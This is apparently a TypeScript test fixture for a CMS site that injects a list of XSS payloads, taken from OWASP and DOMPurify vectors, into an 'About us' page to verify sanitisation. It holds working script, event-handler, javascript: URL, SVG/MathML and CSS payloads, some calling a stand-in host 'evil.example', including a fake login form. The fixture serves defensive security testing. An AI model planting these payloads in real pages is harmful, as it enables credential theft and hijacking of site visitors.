import type { Locale } from '../i18n/locale.ts';
import { ABOUT_US_PAGE_ID } from './pages.ts';

/** The promotion the hostile-HTML hook adds, and the page whose body it appends its payloads to. */
export const HOSTILE_PROMOTION_ID = 99;
export const HOSTILE_PAGE_ID = ABOUT_US_PAGE_ID;

/** Where every payload would send a visitor's data: no page of the site may ever reach it. */
export const HOSTILE_ORIGIN = 'https://evil.example';

/**
 * What an attacker with write access to the CMS (or a careless editor's paste) puts into HTML: the
 * vectors of OWASP's XSS filter evasion cheat sheet and DOMPurify's test suite, grouped by how
 * they try to run (scripts, event handlers, `javascript:` and `data:` urls, SVG and MathML, CSS,
 * markup that changes the page around it). Each would show a dialog or reach `HOSTILE_ORIGIN`.
 */
export const HOSTILE_PAYLOADS: readonly string[] = [
  `<script>alert('xss-script')</script>`,
  `<script src="${HOSTILE_ORIGIN}/steal.js"></script>`,
  `<img src="${HOSTILE_ORIGIN}/pixel.png" onerror="alert('xss-img')">`,
  `<p onmouseover="alert('xss-hover')" onclick="alert('xss-click')">Fare ile üzerine gel / hover me</p>`,
  `<details open ontoggle="alert('xss-toggle')"><summary>Detay</summary>…</details>`,
  `<a href="javascript:alert('xss-js-url')">javascript: bağlantısı</a>`,
  `<a href="JaVaScRiPt&colon;alert('xss-entity')">entity bağlantısı</a>`,
  `<a href=" &#14;  javascript:alert('xss-space')">boşluklu bağlantı</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWRhdGEnKTwvc2NyaXB0Pg==">data: bağlantısı</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<a href="${HOSTILE_ORIGIN}/odul" target="_self">Ödülünü al / Claim your prize</a>`,
  `<svg onload="alert('xss-svg')"><circle r="10"/></svg>`,
  `<svg><animate onbegin="alert('xss-animate')" attributeName="x" dur="1s"/><a xlink:href="javascript:alert('xss-xlink')"><text x="20" y="20">svg</text></a></svg>`,
  `<svg><foreignObject><iframe src="${HOSTILE_ORIGIN}/frame"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src="${HOSTILE_ORIGIN}/m.png" onerror="alert('xss-mathml')"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert('xss-math-href')"><mi>x</mi></math>`,
  `<style>@import url('${HOSTILE_ORIGIN}/evil.css'); body { display: none }</style>`,
  `<div style="background-image: url('${HOSTILE_ORIGIN}/bg.png'); position: fixed; inset: 0">stilli kutu</div>`,
  `<link rel="stylesheet" href="${HOSTILE_ORIGIN}/theme.css">`,
  `<iframe src="${HOSTILE_ORIGIN}/frame" srcdoc="<script>alert('xss-srcdoc')</script>"></iframe>`,
  `<object data="${HOSTILE_ORIGIN}/flash.swf"></object><embed src="${HOSTILE_ORIGIN}/embed.swf">`,
  `<form action="${HOSTILE_ORIGIN}/login"><input name="password" autofocus onfocus="alert('xss-focus')"><button formaction="${HOSTILE_ORIGIN}/go">Gönder</button></form>`,
  `<base href="${HOSTILE_ORIGIN}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOSTILE_ORIGIN}/">`,
  `<noscript><p title="</noscript><img src=${HOSTILE_ORIGIN}/n.png onerror=alert('xss-noscript')>"></noscript>`,
  `<template><script>alert('xss-template')</script></template>`,
  `<video poster="${HOSTILE_ORIGIN}/poster.png"><source src="${HOSTILE_ORIGIN}/v.mp4" onerror="alert('xss-video')"></video>`,
  `<img srcset="${HOSTILE_ORIGIN}/a.png 1x, ${HOSTILE_ORIGIN}/b.png 2x" alt="srcset">`,
  `<p id="oyna-root" name="bootstrap">id çakışması / id clobbering</p>`,
];

/** A sentence a reader sees between the payloads: proof the page still shows the editor's text. */
export const HOSTILE_MARKER: Record<Locale, string> = {
  tr: 'Bu bölüm güvenlik testi içindir.',
  en: 'This section is a security test.',
};

/** The payloads as one HTML fragment, opened by a readable paragraph. */
export const hostileHtml = (locale: Locale): string => `<p>${HOSTILE_MARKER[locale]}</p>${HOSTILE_PAYLOADS.join('')}`;

/** Whether the hostile-HTML hook is on (`POST /__test/cms/hostile`); off after a reset. */
export class CmsFaults {
  hostile = false;
}
